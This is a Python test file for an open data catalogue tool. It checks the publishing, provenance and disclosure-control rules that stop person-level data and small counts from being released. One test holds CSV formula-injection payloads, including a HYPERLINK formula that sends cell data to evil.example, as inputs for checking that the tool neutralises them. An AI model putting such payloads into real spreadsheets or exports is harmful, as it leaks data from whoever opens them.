"""Publishing to the open data catalogue: released outputs and declared non-personal files,
their metadata, provenance and files; every refusal; nothing half-published; the CLI; and a
scan of every published file for person-level data and small counts.

``build_catalogue`` is shared with the CKAN and browser tests.
"""

from __future__ import annotations

import hashlib
import io
import json
from datetime import date
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from alembic.autogenerate import compare_metadata
from alembic.migration import MigrationContext
from sqlalchemy import func, select
from typer.testing import CliRunner

from candour import ledger, register
from candour.catalogue import (
    CatalogueError,
    Dataset,
    PublishRefused,
    catalogue_dir,
    get_dataset,
    list_datasets,
    publish_file,
    publish_release,
    search_datasets,
)
from candour.choices import load_purposes
from candour.cli.main import app
from candour.config import Settings
from candour.disclosure import (
    Count,
    Rules,
    approve_release,
    get_output,
    get_release,
    protect,
    request_release,
    save_output,
)
from candour.disclosure.sdc import PERSON_LEVEL_COLUMNS
from candour.initialise import initialise_home
from candour.store import engine_for, transaction
from candour.store.catalogue import CatalogueDataset, CatalogueDeclaration, CatalogueResource
from candour.store.models import Base
from candour.store.register import DataUse
from candour.synth.opendata import write_road_surface_temperatures

USE_YAML = """\
title: {title}
summary: Did fire-service home safety visits reduce A&E attendances for falls?
public_benefit: Fewer older people hurt by falls
organisation: Wealdshire County Council
team: Public Health Intelligence
senior_responsible_owner: Director of Public Health
purpose: service-evaluation
legal_basis:
  article_6: "6(1)(e) public task"
  article_9: "9(2)(h) health or social care"
  dpa_schedule_1: "Part 1 paragraph 2"
  common_law: "de-identified data; no duty of confidence breached"
applicant: ana
analysts: [ana]
grants:
  ae_attendances: "*"
output: aggregate
disclosure: {{threshold: {threshold}, rounding: 5}}
dp_epsilon: null
starts: 2026-01-01
ends: 2027-12-31
"""
SENSORS = "Road surface temperatures on gritting routes"
FALLS = pd.DataFrame(
    {
        "area": ["North", "North", "South", "South", "East", "East"],
        "age_band": ["0-64", "65+"] * 3,
        "attendances": [120, 4, 88, 61, 40, 33],
    }
)


def make_home(root: Path, **overrides: object) -> Settings:
    """An initialised home with an analyst, an IG lead and a checker."""
    settings = Settings(home=root / "home", web_secure_cookies=False, **overrides)  # type: ignore[arg-type]
    initialise_home(settings)
    for name, role in (("ana", "analyst"), ("ian", "ig"), ("cat", "checker")):
        register.add_user(name, role, settings=settings)
    return settings


def approved_use(settings: Settings, threshold: int = 10, title: str = "Falls evaluation") -> str:
    """A registered, approved data use; returns its id."""
    purposes = load_purposes(settings)
    spec = register.parse_use(USE_YAML.format(title=title, threshold=threshold))
    use_id = register.apply_use(spec, purposes=purposes, settings=settings).use_id
    register.submit(use_id, "ana", settings=settings)
    register.approve(use_id, "ian", purposes=purposes, settings=settings)
    return use_id


def released(
    settings: Settings,
    use_id: str,
    table: pd.DataFrame = FALLS,
    *,
    rules: Rules | None = None,
    name: str = "falls_by_area",
) -> str:
    """Protect ``table``, save it, have ana request and cat approve it; returns the release id."""
    result = protect(table, keys=["area", "age_band"], measures=[Count("attendances")],
                     rules=rules or Rules())
    output = save_output(settings, result, use_id=use_id, created_by="ana", name=name)
    request = request_release(settings, output.output_id, user="ana")
    return approve_release(settings, request.release_id, checker="cat").release_id


def sensor_file(root: Path, hours: int | None = None) -> Path:
    """The synthetic county's road-surface temperature feed (optionally its first hours)."""
    path = root / "open" / "road_surface_temperatures.csv"
    if not path.exists():
        write_road_surface_temperatures(path, seed=7)
    if hours is None:
        return path
    short = root / "open" / f"road_surface_temperatures_{hours}h.csv"
    pd.read_csv(path, dtype=str).head(hours * 24).to_csv(short, index=False)
    return short


def build_catalogue(root: Path, **overrides: object) -> Settings:
    """A home with one published release and the published sensor feed."""
    settings = make_home(root, **overrides)
    use_id = approved_use(settings)
    publish_release(settings, released(settings, use_id), keywords=["falls", "fire safety"],
                    spatial="Wealdshire")
    publish_file(
        settings,
        sensor_file(root),
        title=SENSORS,
        description="Hourly road-surface and air temperatures from sensors on gritting routes.",
        publisher="Wealdshire County Council Highways",
        declared_by="ian",
        declare_non_personal=True,
        keywords=["winter", "roads", "weather"],
        frequency="hourly",
        spatial="Wealdshire",
    )
    return settings


def files_of(settings: Settings) -> list[Path]:
    return sorted(p for p in catalogue_dir(settings).rglob("*") if p.is_file())


@pytest.fixture(scope="module")
def catalogue(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    return build_catalogue(tmp_path_factory.mktemp("catalogue"))


@pytest.fixture
def home(tmp_path: Path) -> Settings:
    return make_home(tmp_path)


# -- released outputs -----------------------------------------------------------------------


def test_a_release_is_published_with_metadata_provenance_and_three_formats(catalogue: Settings):
    dataset = next(d for d in list_datasets(catalogue) if d.origin == "release")
    release = get_release(catalogue, dataset.release_id or "")
    assert dataset.title == "Falls evaluation: falls by area"
    assert dataset.description.startswith("Did fire-service home safety visits")
    assert dataset.publisher.title == "Wealdshire County Council"
    assert dataset.licence.id == "OGL-UK-3.0"
    assert dataset.keywords == ("falls", "fire safety")
    assert dataset.frequency == "never" and dataset.spatial == "Wealdshire"
    assert dataset.use_id == release.use_id and dataset.threshold == 10

    # Provenance: the use's submission and approval and the release, as logged.
    kinds = [json.loads(ledger.entry(i, settings=catalogue))["kind"]
             for i in dataset.ledger_entries]
    assert kinds == ["use-submitted", "use-approved", "release"]
    assert dataset.ledger_entries[-1] == release.ledger_index
    release_entry = json.loads(ledger.entry(release.ledger_index or 0, settings=catalogue))
    assert release_entry["output_hash"] == dataset.source_sha256

    folder = catalogue_dir(catalogue) / dataset.name
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        [f"{dataset.name}.csv", f"{dataset.name}.json", f"{dataset.name}.parquet",
         dataset.csvw_file]
    )
    for resource in dataset.resources:
        data = (folder / resource.file_name).read_bytes()
        assert hashlib.sha256(data).hexdigest() == resource.sha256
        assert len(data) == resource.size
    csv_text = (folder / f"{dataset.name}.csv").read_text()
    # Byte for byte the released file: nothing in it needed neutralising.
    assert csv_text == Path(release.release_path or "").read_text()
    rows = [line.split(",") for line in csv_text.splitlines()[1:]]
    assert len(rows) == 6 and any(r[2] == "[c]" for r in rows)
    records = json.loads((folder / f"{dataset.name}.json").read_text())
    assert [
        [r["area"], r["age_band"], "[c]" if r["attendances"] is None else str(r["attendances"])]
        for r in records
    ] == rows
    parquet = pq.read_table(folder / f"{dataset.name}.parquet").to_pylist()
    assert parquet == records

    csvw = json.loads((folder / dataset.csvw_file).read_text())
    assert csvw["url"] == f"{dataset.name}.csv"
    columns = {c["name"]: c for c in csvw["tableSchema"]["columns"]}
    assert [c for c in columns] == ["area", "age_band", "attendances"]
    assert columns["attendances"]["datatype"] == "integer"
    assert "[c]" in columns["attendances"]["null"]
    assert columns["age_band"]["titles"] == "Age band"
    assert csvw["dc:license"]["@id"].endswith("open-government-licence/version/3/")


def test_a_release_can_be_published_only_once_and_only_when_released(home: Settings):
    use_id = approved_use(home)
    release_id = released(home, use_id)
    publish_release(home, release_id)
    with pytest.raises(CatalogueError, match="already published"):
        publish_release(home, release_id, name="another-name")

    result = protect(FALLS, keys=["area", "age_band"], measures=[Count("attendances")])
    output = save_output(home, result, use_id=use_id, created_by="ana", name="pending")
    pending = request_release(home, output.output_id, user="ana")
    with pytest.raises(CatalogueError, match="pending; only a released output"):
        publish_release(home, pending.release_id)
    assert len(list_datasets(home)) == 1


def test_a_count_below_the_uses_threshold_is_refused(home: Settings):
    # The output was protected with threshold 10, but the use's threshold is 20: the 10-19
    # counts that disclosure control let through must not be published.
    use_id = approved_use(home, threshold=20)
    table = FALLS.assign(attendances=[120, 14, 88, 61, 40, 33])
    release_id = released(home, use_id, table, rules=Rules(threshold=10, rounding=1))
    with pytest.raises(PublishRefused, match="below the threshold of 20"):
        publish_release(home, release_id)
    assert list_datasets(home) == [] and files_of(home) == []


def test_a_released_file_changed_after_the_check_is_refused(home: Settings):
    release_id = released(home, approved_use(home))
    path = Path(get_release(home, release_id).release_path or "")
    path.write_text(path.read_text() + "West,0-64,50\n")
    with pytest.raises(CatalogueError, match="does not match the hash"):
        publish_release(home, release_id)
    assert files_of(home) == []


def test_a_release_whose_use_is_not_in_the_register_is_refused(home: Settings):
    release_id = released(home, "DU-2026-999")
    with pytest.raises(CatalogueError, match="not in the register"):
        publish_release(home, release_id)


# -- non-personal files ----------------------------------------------------------------------


def test_the_sensor_feed_is_published_on_a_recorded_declaration(catalogue: Settings):
    dataset = get_dataset(catalogue, "road-surface-temperatures-on-gritting-routes")
    assert dataset.origin == "non-personal" and dataset.use_id is None
    assert dataset.rows == 151 * 24 * 24
    assert [(c.name, c.datatype) for c in dataset.columns] == [
        ("sensor_id", "string"), ("route", "string"), ("timestamp", "datetime"),
        ("road_surface_temp_c", "number"), ("air_temp_c", "number"),
    ]  # fmt: skip
    assert (str(dataset.temporal_start), str(dataset.temporal_end)) == ("2024-11-01", "2025-03-31")
    assert dataset.frequency_uri.endswith("/frequency/HOURLY")
    declaration = dataset.declaration
    assert declaration is not None and declaration.declared_by == "ian"
    source = sensor_file(catalogue.home.parent)
    assert declaration.file_sha256 == hashlib.sha256(source.read_bytes()).hexdigest()
    assert declaration.file_sha256 in declaration.statement
    assert "holds no personal data" in declaration.statement
    parquet = pq.read_table(catalogue_dir(catalogue) / dataset.name / f"{dataset.name}.parquet")
    assert parquet.num_rows == dataset.rows
    assert str(parquet.schema.field("timestamp").type).startswith("timestamp")


def _publish(settings: Settings, path: Path, **overrides: object) -> Dataset:
    options: dict[str, object] = {
        "title": "Gritting", "description": "Readings.", "publisher": "Highways",
        "declared_by": "ian", "declare_non_personal": True,
    }  # fmt: skip
    options.update(overrides)
    return publish_file(settings, path, **options)  # type: ignore[arg-type]


def test_a_file_is_not_published_without_an_explicit_declaration_by_ig(home: Settings):
    path = sensor_file(home.home.parent, hours=2)
    with pytest.raises(PublishRefused, match="explicit declaration"):
        _publish(home, path, declare_non_personal=False)
    with pytest.raises(CatalogueError, match="only an information-governance lead"):
        _publish(home, path, declared_by="ana")
    with pytest.raises(CatalogueError, match="not an active staff user"):
        _publish(home, path, declared_by="nobody")
    assert list_datasets(home) == [] and files_of(home) == []


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("person_id", "x", "person-level or identifying column"),
        ("Postcode", "x", "person-level or identifying column"),
        ("uprn", "100012345678", "person-level or identifying column"),
        ("label", "P-ABCDEFGHJKMN", "a person id"),
        ("label", "ae_attendances:AE-000123", "a record key"),
        ("label", "943 476 5919", "an NHS number"),
        ("label", "TN1 2AB", "a full postcode"),
        ("label", "someone@example.org", "an e-mail address"),
    ],
)
def test_a_file_about_people_is_refused_whatever_is_declared(
    home: Settings, tmp_path: Path, column: str, value: str, message: str
):
    path = tmp_path / "feed.csv"
    pd.DataFrame({"sensor": ["WGR-01-01", "WGR-01-02"], column: ["ok value", value]}).to_csv(
        path, index=False
    )
    with pytest.raises(PublishRefused, match=message):
        _publish(home, path)
    assert list_datasets(home) == [] and files_of(home) == []
    with transaction(home) as session:
        assert session.scalar(select(func.count()).select_from(CatalogueDeclaration)) == 0


def test_csv_injection_is_neutralised_in_the_published_csv_only(home: Settings, tmp_path: Path):
    path = tmp_path / "routes.csv"
    path.write_text(
        'route,note,temp\nA21,"=HYPERLINK(""http://evil.example/?""&A1)",-1.5\n'
        "A28,+SUM(A1:A2),2.0\nB2067,@cmd,-3\n"
    )
    dataset = _publish(home, path)
    folder = catalogue_dir(home) / dataset.name
    rows = pd.read_csv(folder / f"{dataset.name}.csv", dtype=str, keep_default_na=False)
    assert list(rows["note"]) == [
        "'=HYPERLINK(\"http://evil.example/?\"&A1)", "'+SUM(A1:A2)", "'@cmd",
    ]  # fmt: skip
    assert list(rows["temp"]) == ["-1.5", "2.0", "-3"]  # numbers are not formulas
    records = json.loads((folder / f"{dataset.name}.json").read_text())
    assert records[0]["note"].startswith("=HYPERLINK") and records[2]["temp"] == -3.0


def test_a_failure_while_publishing_leaves_nothing(home: Settings, monkeypatch):
    from candour.catalogue import files

    def broken(frame: pd.DataFrame) -> bytes:
        raise OSError("disk full")

    monkeypatch.setattr(files, "parquet_bytes", broken)
    with pytest.raises(OSError, match="disk full"):
        _publish(home, sensor_file(home.home.parent, hours=1))
    assert files_of(home) == [] and list(catalogue_dir(home).iterdir()) == []
    with transaction(home) as session:
        for table in (CatalogueDataset, CatalogueResource, CatalogueDeclaration):
            assert session.scalar(select(func.count()).select_from(table)) == 0


def test_metadata_is_validated_and_names_stay_unique(home: Settings):
    path = sensor_file(home.home.parent, hours=1)
    with pytest.raises(CatalogueError, match="licence must be one of"):
        _publish(home, path, licence="GPL")
    with pytest.raises(CatalogueError, match="update frequency"):
        _publish(home, path, frequency="fortnightly")
    with pytest.raises(CatalogueError, match="keyword"):
        _publish(home, path, keywords=["<script>"])
    first, second = _publish(home, path), _publish(home, path)
    assert (first.name, second.name) == ("gritting", "gritting-2")
    with pytest.raises(CatalogueError, match="already exists"):
        _publish(home, path, name="gritting")
    assert [d.name for d in search_datasets(home, "tags:nothing").datasets] == []
    assert search_datasets(home, "gritting", rows=1, start=1).count == 2


# -- every published file --------------------------------------------------------------------


def test_no_published_file_has_a_person_level_column_a_repeated_group_or_a_small_count(
    catalogue: Settings,
):
    """Scans every file under the catalogue, in every format, against rules derived
    independently of the catalogue's own metadata: the disclosure report and the register."""
    datasets = {d.name: d for d in list_datasets(catalogue)}
    scanned = 0
    for path in files_of(catalogue):
        dataset = datasets[path.parent.name]
        if path.name.endswith(".csv-metadata.json"):
            continue
        if path.suffix == ".csv":
            frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        elif path.suffix == ".json":
            frame = pd.DataFrame(json.loads(path.read_text()))
        else:
            assert path.suffix == ".parquet", path
            frame = pq.read_table(path).to_pandas()
        scanned += 1
        columns = {str(c).strip().lower() for c in frame.columns}
        assert not columns & PERSON_LEVEL_COLUMNS, path
        assert len(frame) == dataset.rows > 0
        if dataset.origin != "release":
            continue
        release = get_release(catalogue, dataset.release_id or "")
        report = get_output(catalogue, release.output_id).report
        with transaction(catalogue) as session:
            threshold = session.execute(
                select(DataUse.threshold).where(DataUse.use_id == release.use_id)
            ).scalar_one()
        keys = report["keys"]
        assert not frame.duplicated(keys).any(), f"{path}: a group appears twice"
        for measure in report["measures"]:
            if measure["kind"] != "count":
                continue
            for value in frame[measure["column"]]:
                if value is None or pd.isna(value) or value == "[c]":
                    continue
                assert int(value) >= threshold, f"{path}: count {value} below {threshold}"
    assert scanned == 3 * len(datasets) and scanned >= 6


# -- store and CLI ---------------------------------------------------------------------------


def test_the_migration_creates_exactly_the_catalogue_tables(home: Settings):
    with engine_for(home).connect() as connection:
        diff = compare_metadata(MigrationContext.configure(connection), Base.metadata)
    catalogue_diff = [d for d in diff if "catalogue_" in repr(d)]
    assert catalogue_diff == []


def test_the_cli_publishes_lists_and_shows(home: Settings, tmp_path: Path):
    runner = CliRunner()
    path = sensor_file(tmp_path, hours=3)
    base = ["--home", str(home.home)]
    refused = runner.invoke(
        app, ["catalogue", "publish-file", str(path), "--title", "Gritting", "--as", "ian",
              "--publisher", "Highways", *base],
    )  # fmt: skip
    assert refused.exit_code == 2 and "explicit declaration" in refused.output
    done = runner.invoke(
        app, ["catalogue", "publish-file", str(path), "--title", "Gritting sensors", "--as", "ian",
              "--publisher", "Wealdshire Highways", "--declare-non-personal",
              "--keywords", "winter, roads", "--frequency", "hourly", *base],
    )  # fmt: skip
    assert done.exit_code == 0, done.output
    assert "published gritting-sensors" in done.output

    release_id = released(home, approved_use(home))
    out = runner.invoke(
        app, ["catalogue", "publish-release", release_id, "--title", "Falls by area",
              "--keywords", "falls", "--from", "2025-01-01", "--to", "2025-12-31", *base],
    )  # fmt: skip
    assert out.exit_code == 0, out.output
    listing = runner.invoke(app, ["catalogue", "list", *base])
    assert "gritting-sensors" in listing.output and "falls-by-area" in listing.output
    shown = runner.invoke(app, ["catalogue", "show", "falls-by-area", *base])
    assert shown.exit_code == 0
    assert release_id in shown.output and "2025-01-01 to 2025-12-31" in shown.output
    missing = runner.invoke(app, ["catalogue", "show", "nope", *base])
    assert missing.exit_code == 2 and "no dataset 'nope'" in missing.output
    assert io.StringIO(shown.output).read().count("file ") == 3


def test_publishing_and_reading_work_on_both_stores(store_settings: Settings, tmp_path: Path):
    settings = Settings(
        home=store_settings.home, database_url=store_settings.database_url,
        web_secure_cookies=False,
    )  # fmt: skip
    initialise_home(settings)
    for name, role in (("ana", "analyst"), ("ian", "ig"), ("cat", "checker")):
        register.add_user(name, role, settings=settings)
    dataset = publish_release(settings, released(settings, approved_use(settings)),
                              temporal=(date(2025, 1, 1), date(2025, 12, 31)))
    _publish(settings, sensor_file(tmp_path, hours=1))
    again = get_dataset(settings, dataset.dataset_id)
    assert again == dataset and again.temporal_end == date(2025, 12, 31)
    assert [d.name for d in list_datasets(settings)][1] == dataset.name
